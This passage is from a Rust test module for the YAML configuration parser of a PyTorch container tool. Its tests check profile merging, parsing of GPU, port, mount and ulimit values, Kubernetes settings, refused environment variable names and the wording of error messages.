        assert_eq!(p.shm_size, None);
        let flags = Layer {
            shm_size: Some(ShmSize::Bytes(1 << 30)),
            ..Layer::default()
        };
        let p = s.resolve("shell", &flags).unwrap();
        assert_eq!(p.ipc, Ipc::Private);
        assert_eq!(p.shm_size, Some(ShmSize::Bytes(1 << 30)));
    }

    #[test]
    fn lists_merge_by_key() {
        let s = project(
            "mounts: ['~/data:/data:ro']\nprofiles:\n  jupyter:\n    mounts: [{source: /big, target: /data}]\n    ports: ['9000:8888', '0.0.0.0:6006:6006']\n    packages: {pip: [einops], apt: [git]}\n    ulimits: {nofile: '1024:4096', memlock: 64m}\n",
        );
        let p = s.resolve("jupyter", &Layer::default()).unwrap();
        assert_eq!(
            p.mounts,
            vec![Mount {
                source: "/big".into(),
                target: "/data".into(),
                readonly: false
            }]
        );
        assert_eq!(
            p.ports,
            vec![
                Port {
                    container: 8888,
                    host: Some(9000),
                    bind: None
                },
                Port {
                    container: 6006,
                    host: Some(6006),
                    bind: Some("0.0.0.0".into())
                },
            ]
        );
        assert_eq!(p.packages.pip, vec!["einops"]);
        assert_eq!(
            p.ulimits["nofile"],
            Ulimit {
                soft: 1024,
                hard: 4096
            }
        );
        assert_eq!(
            p.ulimits["memlock"],
            Ulimit {
                soft: 64 << 20,
                hard: 64 << 20
            }
        );
        assert_eq!(p.ulimits["stack"].soft, 67108864, "built-in ulimits stay");
    }

    #[test]
    fn broken_yaml_names_line_and_column() {
        let e = err("mode: jupyter\nenv: {A: 1\n");
        assert!(e.message.starts_with("ptenv.yaml:"), "{e}");
        let e = err("mode: jupyter\npytorch: [2.6\nvariant: runtime\n");
        assert!(e.message.starts_with("ptenv.yaml:"), "{e}");
        let e = err("mode: jupyter\n\tpytorch: 2.6\n");
        assert!(e.message.starts_with("ptenv.yaml:2:"), "{e}");
    }

    #[test]
    fn unknown_keys_name_the_place_and_the_nearest_key() {
        let e = err("mode: shell\nshm_sise: 8g\n");
        assert_eq!(e.message, "ptenv.yaml:2:1: unknown field `shm_sise`");
        assert_eq!(e.hints[0], "did you mean `shm_size`?");
        let e = err("profiles:\n  a:\n    mode: shell\n    gpu: all\n");
        assert_eq!(e.message, "ptenv.yaml:4:5: profiles.a: unknown field `gpu`");
        assert_eq!(e.hints[0], "did you mean `gpus`?");
        let e = err("packages: {apt: [git], conda: [x]}\n");
        assert!(e.message.contains("unknown field `conda`"), "{e}");
    }

    #[test]
    fn gpus_read_as_docker_reads_them() {
        // docs/gpus.md §1: a bare number is a count, `device=` names GPUs.
        for (text, want) in [
            ("all", Gpus::All),
            ("none", Gpus::None),
            ("0", Gpus::None),
            ("2", Gpus::Count(2)),
            ("count=3", Gpus::Count(3)),
            ("device=2", Gpus::Devices(vec!["2".into()])),
            (
                "\"device=0,2\"",
                Gpus::Devices(vec!["0".into(), "2".into()]),
            ),
            ("device=GPU-abc", Gpus::Devices(vec!["GPU-abc".into()])),
            ("GPU-abc", Gpus::Devices(vec!["GPU-abc".into()])),
        ] {
            assert_eq!(Gpus::parse(text), Ok(want), "{text}");
        }
        assert!(Gpus::parse("two").is_err());
        let p = project("gpus: 2\nprofiles: {train: {mode: shell}}\n")
            .resolve("train", &Layer::default())
            .unwrap();
        assert_eq!(p.gpus, Gpus::Count(2));
        assert_eq!(p.gpus.to_string(), "2");
        assert_eq!(Gpus::Devices(vec!["2".into()]).to_string(), "device=2");
    }

    #[test]
    fn wrong_values_are_errors_with_place() {
        let cases = [
            ("mode: notebook\n", "unknown variant `notebook`"),
            ("variant: devl\n", "unknown variant `devl`"),
            ("pull: sometimes\n", "unknown variant `sometimes`"),
            ("ipc: shareable\n", "unknown variant `shareable`"),
            ("shm_size: 8 gigs\n", "is not a size"),
            ("shm_size: 10k\n", "below 1 MiB"),
            ("shm_size: [1]\n", "must be `auto` or a size"),
            ("gpus: -1\n", "not a number of GPUs"),
            ("gpus: some\n", "is not a GPU"),
            ("gpus: [0, banana]\n", "is not a GPU"),
            ("pytorch: newest\n", "is not a PyTorch version"),
            ("pytorch: 2.10\n", "quote it"),
            ("pytorch: 2.1\n", "\"2.10\""),
            ("pytorch: [2.6]\n", "is written like"),
            ("cuda: 12\n", "is not a version"),
            ("ports: [70000]\n", "not a port number"),
            ("ports: ['1.2.3:80:80']\n", "not an IP address"),
            (
                "ports: [{container: 80, hots: 8080}]\n",
                "unknown field `hots`",
            ),
            ("mounts: ['data']\n", "is not a mount"),
            ("mounts: ['./data:data']\n", "absolute path"),
            ("mounts: ['./x:/workspace']\n", "mount `./x` somewhere else"),
            ("ulimits: {stack: lots}\n", "is not a limit"),
            ("ulimits: {nofile: '4096:1024'}\n", "soft limit is above"),
            ("env: {A: [1]}\n", "must be a string"),
            ("command: []\n", "non-empty"),
            ("description: [1]\n", "invalid type"),
            (
                "profiles: {bad name: {mode: shell}}\n",
                "is not a profile name",
            ),
            ("profiles: {a: {profiles: {}}}\n", "belong at the top level"),
        ];
        for (text, want) in cases {
            let e = err(text);
            assert!(
                e.message.contains(want),
                "{text:?} gave {e}, wanted {want:?}"
            );
            assert!(e.message.starts_with("ptenv.yaml"), "{text:?} gave {e}");
            assert!(!e.hints.is_empty(), "{text:?} gave no hint");
        }
        let e = err("mode: jupiter\n");
        assert_eq!(e.hints[0], "did you mean `jupyter`?");
        let e = err("ports: [70000]\n");
        assert!(e.message.starts_with("ptenv.yaml:1:"), "{e}");
    }

    #[test]
    fn single_values_are_checked_where_they_are_written() {
        let e = err("ulimits: {memlok: -1}\n");
        assert!(
            e.message
                .contains("`memlok` is not a ulimit (did you mean `memlock`?"),
            "{e}"
        );
        let e = err("bind: localhost\n");
        assert!(e.message.contains("not an IP address"), "{e}");
        let e = err("repository: pytorch/pytorch:2.6\n");
        assert!(e.message.contains("without a tag"), "{e}");
        let e = err("image: 'a b'\n");
        assert!(e.message.contains("not an image reference"), "{e}");
        let ok = project("repository: 127.0.0.1:5000/pytorch/pytorch\n")
            .resolve("shell", &Layer::default());
        assert_eq!(ok.unwrap().repository, "127.0.0.1:5000/pytorch/pytorch");
        // Flags are checked too, after merging.
        let flags = Layer {
            repository: Some("pytorch/pytorch:2.6".into()),
            ..Layer::default()
        };
        let e = Sources::default().resolve("shell", &flags).unwrap_err();
        assert!(e.message.contains("without a tag"), "{e}");

        // Each error names the line and column of the offending value, however deep, and
        // wherever the file's first key is.
        let head = "# a comment\n\ndefault: train\nprofiles:\n  train:\n    mode: shell\n";
        for (tail, place) in [
            ("    gpus: 2.5\n", "ptenv.yaml:7:11: profiles.train.gpus:"),
            (
                "    shm_size: 16x\n",
                "ptenv.yaml:7:15: profiles.train.shm_size:",
            ),
            (
                "    ulimits:\n      stack: 1\n      memlok: -1\n",
                "ptenv.yaml:9:7:",
            ),
            ("    bind: localhost\n", "ptenv.yaml:7:11:"),
            (
                "    env:\n      A: 1\n      JUPYTER_TOKEN: x\n",
                "ptenv.yaml:9:7:",
            ),
            ("    ports: [8888, 70000]\n", "ptenv.yaml:7:19:"),
            (
                "    mounts:\n      - /a:/b\n      - nope\n",
                "ptenv.yaml:9:9:",
            ),
            (
                "    kubernetes:\n      cpu: 4\n      pvc: Team_Data\n",
                "ptenv.yaml:9:12:",
            ),
        ] {
            let e = err(&format!("{head}{tail}"));
            assert!(
                e.message.starts_with(place),
                "{tail:?} gave {e}, wanted {place}"
            );
        }
    }

    #[test]
    fn value_parsers() {
        assert_eq!(
            Gpus::parse("device=0,1"),
            Ok(Gpus::Devices(vec!["0".into(), "1".into()]))
        );
        assert_eq!(
            Gpus::parse("GPU-abc"),
            Ok(Gpus::Devices(vec!["GPU-abc".into()]))
        );
        assert_eq!(Ulimit::parse("-1"), Ok(Ulimit { soft: -1, hard: -1 }));
        assert_eq!(
            Ulimit::parse("1024:-1"),
            Ok(Ulimit {
                soft: 1024,
                hard: -1
            })
        );
        assert!(Ulimit::parse("-1:1024").is_err());
        assert_eq!(
            Port::parse("8000:8888"),
            Ok(Port {
                container: 8888,
                host: Some(8000),
                bind: None
            })
        );
        assert!(Mount::parse("~/d:/d:ro").unwrap().readonly);
        assert_eq!(ShmSize::parse("auto"), Ok(ShmSize::Auto));
        assert_eq!(Version::parse("2.7.0"), Ok(Version("2.7.0".into())));
        assert_eq!(
            Version::parse_pytorch("latest"),
            Ok(Version("latest".into()))
        );
        assert!(
            Version::parse("latest").is_err(),
            "`cuda: latest` means nothing"
        );
    }

    #[test]
    fn the_kubernetes_section_merges_and_is_checked() {
        let s = project(
            "kubernetes:\n  node_selector: {nvidia.com/gpu.product: NVIDIA-A100-SXM4-80GB}\n  tolerations: [{key: nvidia.com/gpu, operator: Exists, effect: NoSchedule}]\n  pvc: team-data\n  nccl: {socket_ifname: eth0, debug: INFO}\nprofiles:\n  train:\n    mode: shell\n    kubernetes: {nproc_per_node: 4, cpu: 8, memory: 64g, node_selector: {pool: gpu}, nodes: 2, gpus_per_node: 8, nccl: {debug: WARN}}\n",
        );
        let k = s.resolve("train", &Layer::default()).unwrap().kubernetes;
        assert_eq!(k.node_selector.len(), 2, "node labels merge by key");
        assert_eq!(k.node_selector["pool"], EnvValue("gpu".into()));
        assert_eq!(
            k.tolerations,
            vec![Toleration {
                key: Some("nvidia.com/gpu".into()),
                operator: TolerationOperator::Exists,
                value: None,
                effect: Some(TaintEffect::NoSchedule),
            }]
        );
        assert_eq!(k.pvc.as_deref(), Some("team-data"));
        assert_eq!(k.nproc_per_node, Some(4));
        assert_eq!(k.cpu, Some(EnvValue("8".into())));
        assert_eq!(k.nodes, Some(2));
        assert_eq!(k.gpus_per_node, Some(8));
        assert_eq!(
            k.nccl_env(),
            vec![
                ("NCCL_DEBUG".to_string(), "WARN".to_string()),
                ("NCCL_SOCKET_IFNAME".to_string(), "eth0".to_string())
            ],
            "NCCL settings merge by key"
        );
        let plain = s.resolve("shell", &Layer::default()).unwrap();
        assert_eq!(plain.kubernetes.nproc_per_node, None);
        assert_eq!(
            Sources::default()
                .resolve("shell", &Layer::default())
                .unwrap()
                .kubernetes,
            Kubernetes::default()
        );

        let bad = [
            ("kubernetes: {pvc: Team_Data}\n", "not a claim name"),
            (
                "kubernetes: {node_selector: {'-x': a}}\n",
                "not a Kubernetes label key",
            ),
            (
                "kubernetes: {node_selector: {pool: 'a b'}}\n",
                "not a label value",
            ),
            (
                "kubernetes: {tolerations: [{key: a, operator: Exists, value: b}]}\n",
                "takes no value",
            ),
            ("kubernetes: {tolerations: [{value: b}]}\n", "needs a `key`"),
            ("kubernetes: {nproc_per_node: 0}\n", "at least 1"),
            (
                "kubernetes: {nodes: 0}\n",
                "`kubernetes.nodes` must be at least 1",
            ),
            (
                "kubernetes: {nccl: {NCCL_DEBUG: INFO}}\n",
                "not an NCCL setting name",
            ),
            (
                "kubernetes: {nccl: {debug: info}}\n",
                "not an NCCL debug level",
            ),
            ("kubernetes: {cpu: lots}\n", "not a CPU request"),
            ("kubernetes: {cpu: 0}\n", "not a CPU request"),
            ("kubernetes: {memory: much}\n", "kubernetes.memory"),
        ];
        for (text, want) in bad {
            let e = err(text);
            assert!(
                e.message.contains(want),
                "{text:?} gave {e}, wanted {want:?}"
            );
            assert!(!e.hints.is_empty());
        }
        let e = err("kubernetes: {tolerations: [{key: a, effect: NoSchedul}]}\n");
        assert!(e.message.contains("unknown variant `NoSchedul`"), "{e}");
        let e = err("kubernetes: {node_selecter: {}}\n");
        assert!(e.message.contains("unknown field `node_selecter`"), "{e}");
        assert!(is_dns_subdomain("a-b.c9"));
        assert!(!is_dns_subdomain("a..b"));
    }

    #[test]
    fn env_names_that_ptenv_owns_are_refused_where_they_are_written() {
        for (text, name) in [
            (
                "mode: jupyter\nenv:\n  A: 1\n  JUPYTER_TOKEN: known\n",
                "JUPYTER_TOKEN",
            ),
            ("env: {JUPYTER_TOKEN_FILE: /tmp/t}\n", "JUPYTER_TOKEN_FILE"),
            (
                "profiles:\n  a:\n    mode: shell\n    env: {PTENV_CA: '1'}\n",
                "PTENV_CA",
            ),
        ] {
            let e = err(text);
            assert!(
                e.message.contains(&format!("env: `{name}` is refused")),
                "{e}"
            );
            assert!(e.message.starts_with("ptenv.yaml:"), "{e}");
        }
        let e = err("mode: jupyter\nenv:\n  A: 1\n  JUPYTER_TOKEN: known\n");
        assert!(e.message.starts_with("ptenv.yaml:4:3:"), "{e}");
        assert!(err("env: {'A=B': 1}\n")
            .message
            .contains("not an environment variable name"));
        let p = project("env: {jupyter_theme: dark, MY_JUPYTER_TOKEN: x}\n")
            .resolve("shell", &Layer::default())
            .unwrap();
        assert_eq!(p.env["MY_JUPYTER_TOKEN"], "x");
    }

    #[test]
    fn profile_names_that_make_the_same_container_name_are_refused() {
        for (user, project_text) in [
            (
                "",
                "profiles: {Train: {mode: shell}, train: {mode: shell}}\n",
            ),
            ("", "profiles: {a_b: {mode: shell}, a-b: {mode: ssh}}\n"),
            ("", "profiles: {Jupyter: {mode: shell}}\n"),
            (
                "profiles: {train: {mode: shell}}\n",
                "profiles: {TRAIN: {mode: shell}}\n",
            ),
        ] {
            let mut files = Vec::new();
            if !user.is_empty() {
                files.push(Source {
                    origin: Origin::User(PathBuf::from("config.yaml")),
                    layer: parse(user, Path::new("config.yaml")).unwrap(),
                });
            }
            files.push(Source {
                origin: Origin::Project(PathBuf::from("ptenv.yaml")),
                layer: parse(project_text, Path::new("ptenv.yaml")).unwrap(),
            });
            let e = Sources { files }.check_names().unwrap_err();
            assert!(e.message.contains("would share the container name"), "{e}");
        }
        // The same name in two layers is one profile, refined.
        let files = vec![
            Source {
                origin: Origin::User(PathBuf::from("config.yaml")),
                layer: parse("profiles: {train: {mode: shell}}\n", Path::new("c")).unwrap(),
            },
            Source {
                origin: Origin::Project(PathBuf::from("ptenv.yaml")),
                layer: parse(
                    "profiles: {train: {gpus: none}, jupyter: {}}\n",
                    Path::new("p"),
                )
                .unwrap(),
            },
        ];
        Sources { files }.check_names().unwrap();
    }

    #[test]
    fn only_host_ports_the_user_gives_are_pinned() {
        let resolve =
            |text: &str, name: &str| project(text).resolve(name, &Layer::default()).unwrap();
        // ssh's 2222 and jupyter's 8888 are ptenv's choices.
        assert_eq!(resolve("", "ssh").pinned_host_port(22), None);
        assert_eq!(resolve("", "jupyter").pinned_host_port(8888), None);
        let p = resolve(
            "ports: ['8888:8888', 6006, {container: 22, host: 2200}]\n",
            "ssh",
        );
        assert_eq!(p.pinned_host_port(8888), Some(8888));
        assert_eq!(p.pinned_host_port(6006), None);
        assert_eq!(p.pinned_host_port(22), Some(2200));
        assert_eq!(p.pinned_host_port(1), None);
    }

    #[test]
    fn an_empty_file_is_an_empty_layer() {
        assert_eq!(parse("", Path::new("x")).unwrap(), Layer::default());
        assert_eq!(
            parse("# only comments\n", Path::new("x")).unwrap(),
            Layer::default()
        );
    }
}
